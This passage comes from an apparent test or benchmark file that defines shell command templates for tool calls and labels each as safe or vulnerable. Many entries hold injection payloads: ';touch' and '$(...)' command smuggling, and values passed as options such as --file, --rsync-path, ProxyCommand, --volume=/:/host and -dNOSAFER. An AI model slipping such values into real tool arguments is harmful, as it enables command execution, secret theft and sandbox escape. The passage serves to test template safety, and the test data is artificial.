  payload={"unit": "--vacuum-size=1K"}, check="argv('journalctl')[0][-1]=='--vacuum-size=1K'",
  benign={"unit": "_SYSTEMD_UNIT=nginx.service"}, prog=["journalctl"], idiom="journal match arg -> --vacuum-size")
T(M, "log_tail_remote", "Tail a log file on the web host over ssh.",
  {"file": "Log file name under /var/log/nginx"},
  "ssh -o BatchMode=yes web01 tail -n 20 /var/log/nginx/UTCP_ARG_file_UTCP_END", "exec",
  payload={"file": "x;touch {C}"}, benign={"file": "access.log"}, prog=["ssh"],
  idiom="ssh remote command re-parsed by remote shell (stub emulates remote sh)")
T(M, "log_tail_remote_q", "Tail a log file on the web host over ssh (value %q-quoted for the remote shell).",
  {"file": "Log file name under /var/log/nginx"},
  "ssh -o BatchMode=yes web01 \"tail -n 20 -- /var/log/nginx/$(printf '%q' UTCP_ARG_file_UTCP_END)\"", "split",
  payload={"file": "blindFsplitA blindFsplitB"}, check="argv('tail')[0][-1]=='/var/log/nginx/blindFsplitAblindFsplitB'", benign={"file": "access.log"}, prog=["ssh"], idiom="printf %q for remote shell")
T(M, "log_errors_today", "Show ERROR lines for a date with a custom log directory.",
  {"day": "Date YYYY-MM-DD"},
  "grep -h -e ERROR -- $LOG_DIR/*.log | grep -F -e UTCP_ARG_day_UTCP_END", "broken",
  env={"LOG_DIR": "/tmp/blindF_run/logs"}, setup=LOGS, benign={"day": "2026-11-02"}, check="exc is not None",
  prog=["grep"], idiom="$LOG_DIR from env_vars eaten by client")
T(M, "log_errors_today_braced", "Show ERROR lines for a date from the configured log directory.",
  {"day": "Date YYYY-MM-DD"},
  "grep -h -e ERROR -- \"${LOG_DIR:-/var/log/app}\"/*.log | grep -F -e UTCP_ARG_day_UTCP_END", "safe",
  env={"LOG_DIR": "/tmp/blindF_run/logs"}, setup=LOGS, benign={"day": "2026-11-02"}, ok="'disk full' in out",
  optok=[("grep", "-e")], prog=["grep"], idiom="${VAR:-default} survives client substitution")
T(M, "log_date_convert", "Convert a timestamp to epoch seconds.",
  {"when": "Date string"},
  "date -u -d UTCP_ARG_when_UTCP_END +%s", "safe", benign={"when": "2026-11-01 10:00"}, ok="out.strip()=='1793527200'",
  optok=[("date", "-d")], prog=["date"], idiom="-d consumes value")
T(M, "log_date_format", "Print the current date in a given format (e.g. +%Y-%m-%d).",
  {"format": "date format string starting with +"},
  "date -u UTCP_ARG_format_UTCP_END", "option", setup=SECRET,
  payload={"format": "--file=/tmp/blindF_probe_secret_src"}, check="'TOPSECRET-LINE' in out",
  benign={"format": "+%Y"}, prog=["date"], idiom="date --file reads other file, leaks it in error")
T(M, "log_syslog_note", "Write a note to syslog tagged 'agent'.",
  {"message": "Message"},
  "logger -t agent UTCP_ARG_message_UTCP_END; echo sent", "option", setup=SECRET,
  payload={"message": "--file=/tmp/blindF_probe_secret_src"}, check="argv('logger')[0][-1]=='--file=/tmp/blindF_probe_secret_src'",
  benign={"message": "deploy done"}, prog=["logger"], idiom="logger --file sends arbitrary file")
T(M, "log_syslog_note_dd", "Write a note to syslog tagged 'agent' (message after --).",
  {"message": "Message"},
  "logger -t agent -- UTCP_ARG_message_UTCP_END; echo sent", "safe", benign={"message": "deploy done"},
  ok="'sent' in out", prog=["logger"], idiom="logger --")
T(M, "zgrep_rotated", "Search rotated gzip logs for a pattern.",
  {"pattern": "Pattern"},
  "zgrep -h -e UTCP_ARG_pattern_UTCP_END -- logs/*.gz", "safe", setup=LOGS + " && gzip -k logs/app.log",
  benign={"pattern": "disk"}, ok="'disk full' in out", optok=[("zgrep", "-e"), ("grep", "-e")],
  prog=["zgrep"], idiom="zgrep -e --")
T(M, "log_topn_ips", "Top N client IPs from access.log.",
  {"n": "integer:how many"},
  "cut -d' ' -f1 access.log | sort | uniq -c | sort -rn | head -n UTCP_ARG_n_UTCP_END", "safe",
  setup="printf '1.1.1.1 a\\n2.2.2.2 b\\n1.1.1.1 c\\n' > access.log", benign={"n": "1"}, ok="'1.1.1.1' in out",
  optok=[("head", "-n")], prog=["cut", "sort", "uniq", "head"], idiom="pipeline, -n consumes value")
T(M, "log_window_minutes", "Count ERROR lines in the last N minutes of the log (two steps).",
  {"minutes": "integer:window size"},
  [("date -u -d \"UTCP_ARG_minutes_UTCP_END minutes ago\" '+%Y-%m-%d %H:%M'", False),
   "awk -v since=\"${CMD_0_OUTPUT}\" 'index($0, \"ERROR\") && substr($0,1,16) >= since' logs/app.log | wc -l"],
  "broken", setup=LOGS, benign={"minutes": "5"}, check="exc is not None", prog=["date", "awk"],
  idiom="${CMD_0_OUTPUT} braced form also substituted by client")

# ---------------------------------------------------------------- certificates and keys
M = "certs_keys"
CERT = ("openssl req -x509 -newkey rsa:2048 -nodes -keyout k.pem -out cert.pem -days 2 -subj /CN=test >/dev/null 2>&1")
T(M, "cert_subject", "Show subject and expiry of a PEM certificate.",
  {"cert": "Certificate path"},
  "openssl x509 -noout -subject -enddate -in UTCP_ARG_cert_UTCP_END", "safe", setup=CERT,
  benign={"cert": "cert.pem"}, ok="'CN = test' in out or 'CN=test' in out", optok=[("openssl", "-in")],
  prog=["openssl"], idiom="-in consumes value")
T(M, "cert_new_key", "Generate a private key and CSR for a common name into keys/.",
  {"cn": "Common name"},
  ["mkdir -p keys", "openssl req -new -newkey rsa:2048 -nodes -keyout keys/UTCP_ARG_cn_UTCP_END.key -out keys/UTCP_ARG_cn_UTCP_END.csr -subj \"/CN=UTCP_ARG_cn_UTCP_END\" && ls keys"],
  "write", payload={"cn": ESC + "_csr"}, benign={"cn": "api.example.org"}, prog=["openssl"],
  idiom="key path from common name")
T(M, "cert_new_key_checked", "Generate a private key and CSR for a hostname (hostname validated).",
  {"cn": "Common name"},
  ["[[ UTCP_ARG_cn_UTCP_END =~ ^[A-Za-z0-9.-]+$ && UTCP_ARG_cn_UTCP_END != *..* ]] || { echo 'invalid hostname'; exit 1; }; mkdir -p keys && openssl req -new -newkey rsa:2048 -nodes -keyout \"keys/UTCP_ARG_cn_UTCP_END.key\" -out \"keys/UTCP_ARG_cn_UTCP_END.csr\" -subj \"/CN=UTCP_ARG_cn_UTCP_END\" 2>/dev/null && ls keys"],
  "safe", benign={"cn": "api.example.org"}, ok="'api.example.org.csr' in out", optok=[("openssl", "-keyout")],
  prog=["openssl"], idiom="hostname regex + no .. guard")
T(M, "cert_fingerprint_remote", "Fetch the TLS certificate fingerprint of host:port.",
  {"host": "Hostname"},
  "echo | openssl s_client -connect UTCP_ARG_host_UTCP_END:443 -servername UTCP_ARG_host_UTCP_END 2>/dev/null | openssl x509 -noout -fingerprint -sha256",
  "skip", skip=True)
T(M, "ssh_keygen_deploy", "Create an ed25519 deploy key named after a project in keys/.",
  {"project": "Project name", "comment": "Key comment"},
  ["mkdir -p keys", "ssh-keygen -q -t ed25519 -N '' -C UTCP_ARG_comment_UTCP_END -f keys/UTCP_ARG_project_UTCP_END_deploy && ls keys"],
  "write", payload={"project": ESC + "_key", "comment": "ci"}, benign={"project": "api", "comment": "ci"},
  check="exists('/tmp/blindF_probe_w_key_deploy')", prog=["ssh-keygen"], idiom="-f path from argument")
T(M, "ssh_key_fingerprint", "Show the fingerprint of a public key file.",
  {"pubkey": "Public key path"},
  "ssh-keygen -l -f UTCP_ARG_pubkey_UTCP_END", "safe", setup="ssh-keygen -q -t ed25519 -N '' -f id -C x",
  benign={"pubkey": "id.pub"}, ok="'ED25519' in out", optok=[("ssh-keygen", "-f")], prog=["ssh-keygen"],
  idiom="-f consumes value")
T(M, "ssh_known_host_add", "Add a host key to known_hosts via ssh-keyscan.",
  {"host": "Hostname"},
  "ssh-keyscan -T 2 -t ed25519 UTCP_ARG_host_UTCP_END >> known_hosts; wc -l < known_hosts", "option",
  payload={"host": "-f/tmp/blindF_probe_secret_src"}, setup=SECRET + " && touch known_hosts",
  check="argv('ssh-keyscan')[0][-1]=='-f/tmp/blindF_probe_secret_src'", benign={"host": "127.0.0.1"},
  prog=["ssh-keyscan"], idiom="ssh-keyscan -f reads host list from file")
T(M, "gpg_decrypt_to", "Decrypt secrets.gpg into a named output file in the workspace.",
  {"out": "Output file name"},
  "gpg --batch --yes --quiet --pinentry-mode loopback --passphrase-file pass.txt --output UTCP_ARG_out_UTCP_END --decrypt secrets.gpg && echo ok",
  "write", env={"GNUPGHOME": "/tmp/blindF_run/gnupg"},
  setup="mkdir -p gnupg && chmod 700 gnupg && echo pw > pass.txt && echo data > s && gpg --batch --yes --pinentry-mode loopback --passphrase-file pass.txt -c -o secrets.gpg s",
  payload={"out": ESC + "_gpg"}, benign={"out": "secrets.txt"}, prog=["gpg"], idiom="--output value escapes")
T(M, "gpg_list_key", "Show a public key by id or e-mail.",
  {"key": "Key id or e-mail"},
  "gpg --batch --list-keys --with-colons -- UTCP_ARG_key_UTCP_END; echo rc=$?", "broken",
  env={"GNUPGHOME": "/tmp/blindF_run/gnupg"}, setup="mkdir -p gnupg && chmod 700 gnupg",
  benign={"key": "dev@example.org"}, check="exc is None and 'rc=' not in str(out)", skip=True)
T(M, "b64_decode_secret", "Decode a base64 value into a named file under secrets/.",
  {"b64": "Base64 content", "name": "File name"},
  ["mkdir -p secrets", "printf '%s' UTCP_ARG_b64_UTCP_END | base64 -d > secrets/UTCP_ARG_name_UTCP_END && ls secrets"],
  "write", payload={"b64": "aGk=", "name": ESC + "_b64"}, benign={"b64": "aGk=", "name": "token"},
  prog=["base64"], idiom="redirect path from argument")
T(M, "b64_decode_secret_basename", "Decode a base64 value into a file under secrets/ (name reduced with basename).",
  {"b64": "Base64 content", "name": "File name"},
  ["mkdir -p secrets", "n=$(basename -- UTCP_ARG_name_UTCP_END); case \"${n}\" in .|..|'') exit 2;; esac; printf '%s' UTCP_ARG_b64_UTCP_END | base64 -d > \"secrets/${n}\" && ls secrets"],
  "broken", benign={"b64": "aGk=", "name": "token"}, check="exc is not None", prog=["base64", "basename"],
  idiom="${n} (plain braced) substituted by client")
T(M, "keystore_list", "List entries of a Java keystore.",
  {"keystore": "Keystore path"},
  "keytool -list -keystore UTCP_ARG_keystore_UTCP_END -storepass changeit", "safe", skip=True)
T(M, "hex_peek", "Hex dump the first N bytes of a file.",
  {"file": "File", "n": "integer:bytes"},
  "xxd -l UTCP_ARG_n_UTCP_END -- UTCP_ARG_file_UTCP_END", "safe", setup="echo hello > f.bin",
  benign={"file": "f.bin", "n": "4"}, ok="'hell' in out", optok=[("xxd", "-l")], prog=["xxd"], idiom="xxd -l --")
T(M, "hex_patch_file", "Write bytes given as a hex dump back into a binary (xxd -r) named by the caller.",
  {"hex": "xxd dump text", "out": "Output file"},
  "printf '%s\\n' UTCP_ARG_hex_UTCP_END | xxd -r - UTCP_ARG_out_UTCP_END && echo written", "write",
  payload={"hex": "00000000: 6869", "out": ESC + "_xxd"}, benign={"hex": "00000000: 6869", "out": "patch.bin"},
  prog=["xxd"], idiom="xxd -r output file")

# ---------------------------------------------------------------- containers and clusters
M = "containers"
T(M, "docker_nginx_conf", "Print an nginx site config from the running web container.",
  {"site": "Site name"},
  "docker exec web sh -c \"cat /etc/nginx/conf.d/UTCP_ARG_site_UTCP_END.conf\"", "exec",
  payload={"site": "x; touch {C}; echo "}, benign={"site": "default"}, prog=["docker"],
  idiom="value expanded into sh -c string inside container (stub runs sh -c)")
T(M, "docker_nginx_conf_arg", "Print an nginx site config from the running web container (value passed as $1).",
  {"site": "Site name"},
  "docker exec web sh -c 'cat \"/etc/nginx/conf.d/${1}.conf\"' sh UTCP_ARG_site_UTCP_END", "broken",
  benign={"site": "default"}, check="exc is not None", prog=["docker"], idiom="${1} eaten by client")
T(M, "docker_exec_cat", "Print a config file from the web container.",
  {"path": "Path in the container"},
  "docker exec web cat -- UTCP_ARG_path_UTCP_END", "safe", benign={"path": "/etc/nginx/nginx.conf"},
  prog=["docker"], idiom="argv to docker exec, no shell")
T(M, "docker_run_tool", "Run a one-off container from an image to print its version.",
  {"image": "Image reference"},
  "docker run --rm UTCP_ARG_image_UTCP_END --version", "option",
  payload={"image": "--volume=/:/host"}, check="argv('docker')[0][2]=='--volume=/:/host'",
  benign={"image": "alpine:3.19"}, prog=["docker"], idiom="image arg -> --volume host root", skip=True)
T(M, "docker_build_tag", "Build the image in the current directory with a tag.",
  {"tag": "Image tag"},
  "docker build --pull -t UTCP_ARG_tag_UTCP_END .", "safe", benign={"tag": "api:dev"}, optok=[("docker", "-t")],
  prog=["docker"], idiom="-t consumes value")
T(M, "docker_build_args", "Build the image with extra build args (KEY=VALUE KEY2=VALUE2).",
  {"build_args": "Space separated KEY=VALUE pairs"},
  "docker build $(printf -- '--build-arg %s ' UTCP_ARG_build_args_UTCP_END) -t api:dev .", "split",
  payload={"build_args": "A=1 --network=host"}, check="'--network=host' in argv('docker')[0]",
  benign={"build_args": "VERSION=1"}, prog=["docker"], idiom="printf output re-split unquoted")
T(M, "docker_run_pwd", "Run the linter container against the current directory.",
  {"path": "Path to lint"},
  "docker run --rm -v \"$PWD\":/src -w /src hadolint/hadolint hadolint UTCP_ARG_path_UTCP_END", "broken",
  benign={"path": "Dockerfile"}, check="exc is not None", prog=["docker"], idiom="$PWD eaten by client")
T(M, "docker_rm_label", "Remove all containers carrying a label.",
  {"label": "Label key=value"},
  [("docker ps -aq --filter \"label=UTCP_ARG_label_UTCP_END\"", False), "docker rm -f ${CMD_0_OUTPUT:-none}"],
  "safe", benign={"label": "job=tmp"}, skip=True)
T(M, "kubectl_pod_logs", "Fetch the last 100 log lines of a pod in production.",
  {"pod": "Pod name"},
  "kubectl -n prod logs UTCP_ARG_pod_UTCP_END --tail=100", "option",
  payload={"pod": "--selector=app"}, check="argv('kubectl')[0][3]=='--selector=app'",
  benign={"pod": "api-7d9"}, prog=["kubectl"], idiom="pod name -> --selector reads logs of other pods")
T(M, "kubectl_ns_logs", "Fetch deployment logs in a namespace.",
  {"namespace": "Namespace"},
  "kubectl logs deploy/api --tail=100 -n UTCP_ARG_namespace_UTCP_END", "safe", benign={"namespace": "prod"},
  optok=[("kubectl", "-n")], prog=["kubectl"], idiom="-n consumes value")
T(M, "kubectl_exec_ls", "List a data directory inside the api pod.",
  {"dir": "Directory under /data"},
  "kubectl -n prod exec deploy/api -- sh -c \"ls -la /data/UTCP_ARG_dir_UTCP_END\"", "exec",
  payload={"dir": "$(touch {C})"}, benign={"dir": "uploads"}, prog=["kubectl"], idiom="kubectl exec sh -c string")
T(M, "kubectl_scale", "Scale a deployment to N replicas (validated).",
  {"deployment": "Deployment name", "replicas": "integer:replicas"},
  "[[ UTCP_ARG_replicas_UTCP_END =~ ^[0-9]{1,2}$ ]] || exit 2; kubectl -n prod scale deployment/UTCP_ARG_deployment_UTCP_END --replicas=UTCP_ARG_replicas_UTCP_END",
  "safe", benign={"deployment": "api", "replicas": "3"}, prog=["kubectl"], idiom="deployment/<v> prefix keeps it an operand")
T(M, "kubectl_label_sel", "Get pods matching a label selector list (e.g. app=api,tier=web).",
  {"selector": "Label selector"},
  "kubectl get pods -o name -l $(echo UTCP_ARG_selector_UTCP_END | tr -d ' ')", "safe", skip=True)
T(M, "kubectl_get_many", "Describe one resource given as kind/name.",
  {"resource": "kind/name"},
  "kubectl describe $(echo UTCP_ARG_resource_UTCP_END)", "split",
  payload={"resource": "pod/blindFsplitA blindFsplitB"}, check="argv('kubectl')[0][1:]==['pod/blindFsplitA','blindFsplitB']",
  benign={"resource": "pod/api-1"}, prog=["kubectl"], idiom="unquoted $(echo) splits")
T(M, "helm_upgrade", "Install or upgrade a release of the bundled chart.",
  {"release": "Release name"},
  "helm upgrade --install UTCP_ARG_release_UTCP_END ./chart -n apps --wait", "option",
  payload={"release": "--post-renderer=/tmp/blindF_probe_x"}, check="argv('helm')[0][2]=='--post-renderer=/tmp/blindF_probe_x'",
  benign={"release": "api"}, prog=["helm"], idiom="release name -> --post-renderer", skip=True)
T(M, "helm_values_set", "Upgrade a release setting image.tag.",
  {"tag": "Image tag"},
  "helm upgrade api ./chart -n apps --reuse-values --set image.tag=UTCP_ARG_tag_UTCP_END", "split",
  payload={"tag": "1.2,securityContext.privileged=true"}, check="argv('helm')[0][-1]=='image.tag=1.2,securityContext.privileged=true'",
  benign={"tag": "1.2.0"}, prog=["helm"], idiom="helm --set splits on comma into several values")
T(M, "helm_values_set_string", "Upgrade a release setting image.tag (value taken literally).",
  {"tag": "Image tag"},
  "[[ UTCP_ARG_tag_UTCP_END =~ ^[A-Za-z0-9._-]+$ ]] || exit 2; helm upgrade api ./chart -n apps --reuse-values --set-string image.tag=UTCP_ARG_tag_UTCP_END",
  "safe", benign={"tag": "1.2.0"}, prog=["helm"], idiom="charset guard excludes , and =")
T(M, "kustomize_image", "Set the image of the overlay's kustomization.",
  {"image": "Image name=ref"},
  "cd overlays/prod && kustomize edit set image UTCP_ARG_image_UTCP_END", "safe", setup="mkdir -p overlays/prod",
  benign={"image": "api=registry.local/api:1.2"}, skip=True)
T(M, "skopeo_copy_image", "Copy an image between registries.",
  {"src": "Source image", "dest": "Destination image"},
  "skopeo copy docker://UTCP_ARG_src_UTCP_END docker://UTCP_ARG_dest_UTCP_END", "safe",
  benign={"src": "a/b:1", "dest": "c/d:1"}, prog=["skopeo"], idiom="docker:// prefix keeps operand")
T(M, "trivy_scan", "Scan an image for HIGH and CRITICAL CVEs.",
  {"image": "Image reference"},
  "trivy image --severity HIGH,CRITICAL --quiet UTCP_ARG_image_UTCP_END", "option",
  payload={"image": "--output=/tmp/blindF_probe_trivy"}, check="argv('trivy')[0][-1]=='--output=/tmp/blindF_probe_trivy'",
  benign={"image": "alpine:3.19"}, prog=["trivy"], idiom="image -> --output", skip=True)
T(M, "podman_inspect_fmt", "Inspect a container and print a Go-template field.",
  {"container": "Container", "field": "Field name like State.Status"},
  "podman inspect --format '{{.UTCP_ARG_field_UTCP_END}}' -- UTCP_ARG_container_UTCP_END", "safe",
  benign={"container": "web", "field": "State.Status"}, optok=[("podman", "--format")], prog=["podman"],
  idiom="placeholder inside sq template arg")

# ---------------------------------------------------------------- cloud and infra
M = "cloud_infra"
VARIABLES[M] = {ns(M, "AWS_PROFILE_NAME"): "reporting", ns(M, "VAULT_TOKEN"): "s.dummy"}
T(M, "s3_upload_report", "Upload a local report file to the reports bucket.",
  {"file": "Local file"},
  "aws s3 cp UTCP_ARG_file_UTCP_END s3://acme-reports/daily/ --only-show-errors", "option",
  env={"AWS_PROFILE": "${AWS_PROFILE_NAME}"},
  payload={"file": "--endpoint-url=http://127.0.0.1:9"}, check="argv('aws')[0][2]=='--endpoint-url=http://127.0.0.1:9'",
  benign={"file": "report.csv"}, prog=["aws"], idiom="file -> --endpoint-url, env_vars from client variable", skip=True)
T(M, "s3_list_prefix", "List objects under a prefix of the logs bucket.",
  {"prefix": "Key prefix"},
  "aws s3 ls \"s3://acme-logs/UTCP_ARG_prefix_UTCP_END\" --recursive", "safe", env={"AWS_PROFILE": "${AWS_PROFILE_NAME}"},
  benign={"prefix": "2026/11/"}, prog=["aws"], idiom="s3:// prefix keeps operand")
T(M, "ec2_describe_tag", "Describe instances with a Name tag.",
  {"name": "Instance Name tag"},
  "aws ec2 describe-instances --filters Name=tag:Name,Values=UTCP_ARG_name_UTCP_END --output json", "split",
  payload={"name": "web,db"}, check="argv('aws')[0][3]=='Name=tag:Name,Values=web,db'", benign={"name": "web"},
  prog=["aws"], idiom="shorthand syntax splits Values on comma")
T(M, "gcloud_ssh_cmd", "Run a diagnostic command on a GCE VM via gcloud compute ssh.",
  {"vm": "VM name"},
  "gcloud compute ssh UTCP_ARG_vm_UTCP_END --zone europe-west1-b --command 'uptime'", "option",
  payload={"vm": "--ssh-flag=-oProxyCommand=touch /tmp/x"}, check="argv('gcloud')[0][2].startswith('--ssh-flag=')",
  benign={"vm": "web-1"}, prog=["gcloud"], idiom="vm name -> --ssh-flag", skip=True)
T(M, "tf_plan_target", "Plan changes for a single resource address.",
  {"address": "Resource address"},
  "terraform -chdir=infra plan -input=false -target=UTCP_ARG_address_UTCP_END", "safe", setup="mkdir -p infra",
  benign={"address": "aws_s3_bucket.logs"}, prog=["terraform"], idiom="-target=value single arg")
T(M, "tf_workspace", "Select a terraform workspace and show outputs.",
  {"workspace": "Workspace name"},
  ["terraform -chdir=infra workspace select UTCP_ARG_workspace_UTCP_END", "terraform -chdir=infra output -json"],
  "option", setup="mkdir -p infra", payload={"workspace": "-or-create=true"},
  check="argv('terraform')[0][-1]=='-or-create=true'", benign={"workspace": "staging"}, prog=["terraform"],
  idiom="workspace -> -or-create", skip=True)
T(M, "tf_var_apply", "Apply with an instance count variable.",
  {"count": "integer:instances"},
  "terraform -chdir=infra apply -auto-approve -var \"instance_count=UTCP_ARG_count_UTCP_END\"", "safe", setup="mkdir -p infra",
  benign={"count": "2"}, optok=[("terraform", "-var")], prog=["terraform"], idiom="-var consumes value")
T(M, "vault_read_secret", "Read a KV secret field.",
  {"path": "Secret path", "field": "Field"},
  "vault kv get -field=UTCP_ARG_field_UTCP_END secret/UTCP_ARG_path_UTCP_END", "safe",
  env={"VAULT_TOKEN": "${VAULT_TOKEN}", "VAULT_ADDR": "http://127.0.0.1:8200"}, benign={"path": "app/db", "field": "password"},
  prog=["vault"], idiom="secret/ prefix keeps operand, client variable in env")
T(M, "vault_write_kv", "Write KEY=VALUE pairs into a KV secret.",
  {"path": "Secret path", "pairs": "KEY=VALUE pairs separated by spaces"},
  "vault kv put secret/UTCP_ARG_path_UTCP_END UTCP_ARG_pairs_UTCP_END", "safe", skip=True)
T(M, "ansible_ping_group", "Ping an inventory group with ansible.",
  {"group": "Inventory group"},
  "ansible UTCP_ARG_group_UTCP_END -i inventory.ini -m ping", "option",
  payload={"group": "--module-name=shell"}, check="argv('ansible')[0][0]=='--module-name=shell'",
  benign={"group": "web"}, prog=["ansible"], idiom="host pattern -> option", skip=True)
T(M, "ansible_adhoc_uptime", "Run uptime on an inventory group.",
  {"group": "Inventory group"},
  "ansible -i inventory.ini -m command -a \"uptime -p\" -- UTCP_ARG_group_UTCP_END", "safe",
  benign={"group": "web"}, prog=["ansible"], idiom="-- hard negative")
T(M, "consul_kv_get", "Read a key from consul KV.",
  {"key": "KV key"},
  "consul kv get UTCP_ARG_key_UTCP_END", "option", payload={"key": "-http-addr=127.0.0.1:9"},
  check="argv('consul')[0][2]=='-http-addr=127.0.0.1:9'", benign={"key": "config/api/port"}, prog=["consul"],
  idiom="single-dash go flag", skip=True)
T(M, "az_vm_list_rg", "List VMs of a resource group.",
  {"group": "Resource group"},
  "az vm list -g UTCP_ARG_group_UTCP_END -o table", "safe", benign={"group": "rg-prod"}, optok=[("az", "-g")],
  prog=["az"], idiom="-g consumes value")

# ---------------------------------------------------------------- media and documents
M = "media_docs"
T(M, "ffmpeg_extract_audio", "Extract the audio track of a video to AAC.",
  {"input": "Input video"},
  "ffmpeg -hide_banner -i UTCP_ARG_input_UTCP_END -vn -acodec copy out/audio.aac", "safe",
  benign={"input": "talk.mp4"}, optok=[("ffmpeg", "-i")], prog=["ffmpeg"], idiom="-i consumes value")
T(M, "ffmpeg_thumbnail", "Grab a thumbnail at a timestamp into thumbs/<name>.jpg.",
  {"video": "Input video", "name": "Thumbnail name"},
  "mkdir -p thumbs && ffmpeg -y -ss 00:00:05 -i UTCP_ARG_video_UTCP_END -frames:v 1 thumbs/UTCP_ARG_name_UTCP_END.jpg && echo ok",
  "safe", skip=True)
T(M, "ffmpeg_concat_list", "Concatenate clips listed (one per line) into merged.mp4.",
  {"clips": "Clip file names, one per line"},
  ["printf \"file '%s'\\n\" UTCP_ARG_clips_UTCP_END > list.txt", "ffmpeg -f concat -safe 0 -i list.txt -c copy merged.mp4; cat list.txt"],
  "broken", benign={"clips": "a.mp4\nb.mp4"}, check="\"file 'a.mp4\\nb.mp4'\" in out", prog=["ffmpeg"],
  idiom="whole list in one printf arg -> one bogus entry", skip=True)
T(M, "pandoc_render", "Render a markdown file to HTML in site/.",
  {"source": "Markdown file"},
  "pandoc UTCP_ARG_source_UTCP_END -s -o site/index.html", "option",
  payload={"source": "--lua-filter=/tmp/blindF_probe_filter.lua"}, check="argv('pandoc')[0][0]=='--lua-filter=/tmp/blindF_probe_filter.lua'",
  benign={"source": "README.md"}, prog=["pandoc"], idiom="source -> --lua-filter (runs Lua)")
T(M, "pandoc_render_dd", "Render a markdown file to HTML in site/ (input after --).",
  {"source": "Markdown file"},
  "pandoc -s -o site/index.html -- UTCP_ARG_source_UTCP_END", "safe", benign={"source": "README.md"},
  prog=["pandoc"], idiom="--")
T(M, "pdf_to_png_gs", "Rasterize page 1 of a PDF with ghostscript.",
  {"pdf": "PDF file"},
  "gs -q -dSAFER -dBATCH -dNOPAUSE -sDEVICE=png16m -r150 -dFirstPage=1 -dLastPage=1 -o page1.png UTCP_ARG_pdf_UTCP_END",
  "option", payload={"pdf": "-dNOSAFER"}, check="argv('gs')[0][-1]=='-dNOSAFER'", benign={"pdf": "doc.pdf"},
  prog=["gs"], idiom="input -> -dNOSAFER disables sandbox", skip=True)
T(M, "exif_strip", "Strip all metadata from an image in place.",
  {"image": "Image file"},
  "exiftool -all= -overwrite_original UTCP_ARG_image_UTCP_END", "option",
  payload={"image": "-@"}, check="argv('exiftool')[0][-1]=='-@'", benign={"image": "photo.jpg"}, skip=True)
T(M, "exif_set_artist", "Set the Artist tag of an image.",
  {"image": "Image file", "artist": "Artist name"},
  "exiftool -overwrite_original -Artist=UTCP_ARG_artist_UTCP_END -- UTCP_ARG_image_UTCP_END", "safe",
  benign={"image": "photo.jpg", "artist": "Ann"}, prog=["exiftool"], idiom="-Tag=value single arg, --")
T(M, "exif_read_tag", "Read selected tags from an image.",
  {"image": "Image file"},
  "exiftool -s -ImageSize -Model UTCP_ARG_image_UTCP_END", "option", payload={"image": "-w!/tmp/blindF_probe_%f.txt"},
  check="argv('exiftool')[0][-1].startswith('-w!')", benign={"image": "photo.jpg"}, prog=["exiftool"],
  idiom="image -> -w! writes output files", skip=True)
T(M, "image_resize", "Resize an image into thumbs/ with ImageMagick.",
  {"image": "Input image", "name": "Output file name"},
  "mkdir -p thumbs && convert UTCP_ARG_image_UTCP_END -resize 320x thumbs/UTCP_ARG_name_UTCP_END && echo ok", "write",
  payload={"image": "a.png", "name": ESC + "_img"}, check="argv('convert')[0][-1].endswith('tmp/blindF_probe_w_img')",
  benign={"image": "a.png", "name": "a_small.png"}, prog=["convert"], idiom="output name ../ (stub records destination)")
T(M, "sox_trim", "Trim an audio file from a start time for a duration.",
  {"input": "Input audio", "start": "Start seconds", "dur": "Duration seconds"},
  "sox -- UTCP_ARG_input_UTCP_END out.wav trim UTCP_ARG_start_UTCP_END UTCP_ARG_dur_UTCP_END", "safe", skip=True)
T(M, "qpdf_pages", "Extract a page range from a PDF into extract.pdf.",
  {"pdf": "PDF file", "pages": "Page range, e.g. 1-3"},
  "qpdf --empty --pages UTCP_ARG_pdf_UTCP_END UTCP_ARG_pages_UTCP_END -- extract.pdf", "option",
  payload={"pdf": "doc.pdf", "pages": "--password-file=/tmp/blindF_probe_secret_src"},
  check="'--password-file=/tmp/blindF_probe_secret_src' in argv('qpdf')[0]", benign={"pdf": "doc.pdf", "pages": "1-3"}, skip=True)
T(M, "pdf_text_grep", "Extract text of a PDF and count lines matching a word.",
  {"pdf": "PDF file", "word": "Word"},
  "pdftotext -layout UTCP_ARG_pdf_UTCP_END - | grep -c -i -e UTCP_ARG_word_UTCP_END", "safe", skip=True)
T(M, "doc_build_sphinx_env", "Build docs with a theme chosen via environment.",
  {"theme": "Theme name"},
  "SPHINX_THEME=UTCP_ARG_theme_UTCP_END make -C docs html", "safe",
  setup="mkdir -p docs && printf 'html:\\n\\t@echo theme=$$SPHINX_THEME\\n' > docs/Makefile",
  benign={"theme": "furo"}, ok="'theme=furo' in out", prog=["make"], idiom="env prefix assignment")
T(M, "md_toc", "Print the table of contents (headings) of a markdown file.",
  {"file": "Markdown file"},
  "grep -E '^#{1,3} ' UTCP_ARG_file_UTCP_END | sed -E 's/^(#+) /\\1|/' | column -t -s'|'", "option",
  setup=SECRET, payload={"file": "--file=/tmp/blindF_probe_secret_src"}, check="argv('grep')[0][-1]=='--file=/tmp/blindF_probe_secret_src'",
  benign={"file": "README.md"}, skip=True)

# ---------------------------------------------------------------- backups
M = "backups"
T(M, "rsync_push", "Push a directory to the backup host.",
  {"src": "Source directory"},
  "rsync -az --delete UTCP_ARG_src_UTCP_END backup@nas:/volume1/backup/", "option",
  payload={"src": "--rsync-path=touch /tmp/x;rsync"}, check="argv('rsync')[0][2].startswith('--rsync-path=')",
  benign={"src": "data/"}, prog=["rsync"], idiom="src -> --rsync-path")
T(M, "rsync_push_dd", "Push a directory to the backup host (source after --).",
  {"src": "Source directory"},
  "rsync -az --delete -- UTCP_ARG_src_UTCP_END backup@nas:/volume1/backup/", "safe", benign={"src": "data/"},
  prog=["rsync"], idiom="--")
T(M, "restic_snapshot", "Snapshot a path with restic and a tag.",
  {"path": "Path", "tag": "Tag"},
  "restic backup --tag UTCP_ARG_tag_UTCP_END -- UTCP_ARG_path_UTCP_END", "safe",
  env={"RESTIC_REPOSITORY": "/srv/restic", "RESTIC_PASSWORD_FILE": "/etc/restic.pass"},
  benign={"path": "/srv/data", "tag": "nightly"}, skip=True, optok=[("restic", "--tag")], prog=["restic"], idiom="--tag consumes, --")
T(M, "restic_forget_keep", "Forget old snapshots keeping the last N.",
  {"keep": "integer:snapshots to keep"},
  "restic forget --prune --keep-last $KEEP_LAST UTCP_ARG_keep_UTCP_END", "skip", skip=True)
T(M, "tar_restore", "Restore a backup archive into restore/<name>.",
  {"archive": "Archive file", "name": "Restore folder name"},
